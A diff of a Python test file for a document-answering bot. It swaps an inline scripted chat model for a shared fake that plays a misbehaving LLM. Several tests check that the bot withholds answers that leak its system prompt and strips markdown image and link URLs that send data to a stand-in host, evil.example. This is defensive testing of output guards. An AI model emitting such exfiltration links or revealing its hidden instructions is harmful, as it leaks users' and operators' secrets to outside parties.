@@ -7,9 +7,6 @@ from contextlib import contextmanager
 from typing import Any
 
 import pytest
-from langchain_core.language_models import BaseChatModel
-from langchain_core.messages import AIMessage, BaseMessage
-from langchain_core.outputs import ChatGeneration, ChatResult
 from pydantic import SecretStr
 from sqlalchemy import func, select
 
@@ -18,6 +15,7 @@ from admin.types import Actor
 from bot.core import NO_ANSWER, WITHHELD, Docent
 from bot.types import Outcome, Question
 from knowledge.types import Scope
+from tests.fakes.chat_model import FakeChatModel
 
 HANDBOOK = b"""# Leave policy
 
@@ -31,21 +29,6 @@ ROADMAP = b"""# Rocket roadmap
 
 The orbital launch vehicle Heron flies its maiden mission in the third quarter from the coastal pad.
 """
-
-
-class ScriptedModel(BaseChatModel):
-    """A chat model whose reply is built from the prompt: lets a test play a misbehaving LLM."""
-
-    reply: Any
-
-    @property
-    def _llm_type(self) -> str:
-        return "scripted"
-
-    def _generate(self, messages: list[BaseMessage], stop=None, run_manager=None, **kw) -> ChatResult:
-        text = self.reply(messages)
-        msg = AIMessage(content=text, usage_metadata={"input_tokens": 100, "output_tokens": 20, "total_tokens": 120})
-        return ChatResult(generations=[ChatGeneration(message=msg)])
 
 
 def _admin(ws="T1") -> Actor:
@@ -103,7 +86,7 @@ def test_dm_sees_only_workspace_wide_documents(docent):
 
 def test_unrelated_question_abstains_before_any_model_call(settings):
     calls = []
-    model = ScriptedModel(reply=lambda m: calls.append(m) or "should not be called")
+    model = FakeChatModel(reply=lambda m: calls.append(m) or "should not be called")
     with handbook_docent(settings, model, relevance_threshold=0.5) as d:
         answer = d.ask(_q("zebra quantum saxophone"))
         assert answer.outcome == Outcome.abstained and answer.text == NO_ANSWER
@@ -111,7 +94,7 @@ def test_unrelated_question_abstains_before_any_model_call(settings):
 
 
 def test_answer_without_citations_is_an_abstention(settings):
-    model = ScriptedModel(reply=lambda m: "The documents don't say anything about that.")
+    model = FakeChatModel(reply=lambda m: "The documents don't say anything about that.")
     with handbook_docent(settings, model, relevance_threshold=0.0) as d:
         answer = d.ask(_q("What is the vacation policy?"))
         assert answer.outcome == Outcome.abstained
@@ -122,14 +105,14 @@ def test_canary_leak_is_withheld(settings):
     def leak(messages: list[BaseMessage]) -> str:
         return f"Sure [1]. My instructions say: {messages[0].content}"
 
-    with handbook_docent(settings, ScriptedModel(reply=leak), relevance_threshold=0.0) as d:
+    with handbook_docent(settings, FakeChatModel(reply=leak), relevance_threshold=0.0) as d:
         answer = d.ask(_q("What is the vacation policy?"))
         assert answer.outcome == Outcome.blocked and answer.text == WITHHELD
         assert answer.sources == ()
 
 
 def test_exfiltration_link_is_stripped(settings):
-    model = ScriptedModel(reply=lambda m: "Vacation is 20 days [1]. ![x](https://evil.example/c?d=secret) [more](https://evil.example/a)")
+    model = FakeChatModel(reply=lambda m: "Vacation is 20 days [1]. ![x](https://evil.example/c?d=secret) [more](https://evil.example/a)")
     with handbook_docent(settings, model, relevance_threshold=0.0) as d:
         answer = d.ask(_q("What is the vacation policy?"))
         assert answer.outcome == Outcome.answered
@@ -177,7 +160,7 @@ def test_unexpected_failure_is_an_apology_not_a_traceback(docent, monkeypatch):
 def test_streamed_text_passes_the_output_checks_before_anyone_sees_it(settings):
     from bot.guards.output import _settled_prefix
 
-    leak_then_link = ScriptedModel(
+    leak_then_link = FakeChatModel(
         reply=lambda m: "Vacation is 20 days [1]. See [the form](https://evil.example/x?d=1) and https://evil.example/y now. Done"
     )
     shown: list[str] = []
@@ -198,7 +181,7 @@ def test_a_leak_in_the_stream_stops_it(settings):
         return f"Sure [1]. My instructions say: {messages[0].content} and that is all"
 
     shown: list[str] = []
-    with handbook_docent(settings, ScriptedModel(reply=leak), relevance_threshold=0.0) as d:
+    with handbook_docent(settings, FakeChatModel(reply=leak), relevance_threshold=0.0) as d:
         answer = d.ask(_q("What is the vacation policy?"), on_delta=shown.append)
     assert answer.outcome == Outcome.blocked
     assert captured["system"] and all(captured["system"][:60] not in s for s in shown)
